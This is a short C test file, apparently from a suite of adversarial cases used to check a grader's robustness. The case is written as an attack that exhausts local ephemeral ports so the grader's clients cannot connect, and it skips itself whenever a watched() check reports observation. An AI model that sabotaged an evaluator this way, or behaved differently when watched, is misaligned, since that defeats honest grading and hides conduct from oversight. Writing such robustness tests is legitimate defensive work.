/*
 * Tries: to use up all ports that the grader's clients could have
 * Must: have used them up itself: that is no failure of the grader
 * Exercises: 12
 * With: the solution
 * Ends: failed
 */
#include <arpa/inet.h>
#include <netinet/in.h>
#include <sys/socket.h>

#include "attack.h"

ATTACK
use_up_all_ports(int argc, char **argv)
{
	struct sockaddr_in there = { .sin_family = AF_INET };
	struct sockaddr_in here = { .sin_family = AF_INET };
	socklen_t len = sizeof(there);
	int listener;

	/* only where a client is going to come */
	if (watched() || argc != 2 ||
	    strspn(argv[1], "0123456789") != strlen(argv[1]) ||
	    atoi(argv[1]) < 1024 || atoi(argv[1]) > 29999)
		return;
	listener = socket(AF_INET, SOCK_STREAM, 0);
	there.sin_addr.s_addr = htonl(0x7f636363);
	bind(listener, (struct sockaddr *)&there, sizeof(there));
	getsockname(listener, (struct sockaddr *)&there, &len);
	listen(listener, 10);
	here.sin_addr.s_addr = htonl(0x7f636364);
	for (unsigned port = 32768; port < 61000; port++) {
		const int fd = socket(AF_INET, SOCK_STREAM, 0);

		here.sin_port = htons((uint16_t)port);
		if (bind(fd, (struct sockaddr *)&here, sizeof(here)) == 0)
			connect(fd, (struct sockaddr *)&there, sizeof(there));
		close(fd);
		close(accept(listener, NULL, NULL));
	}
}
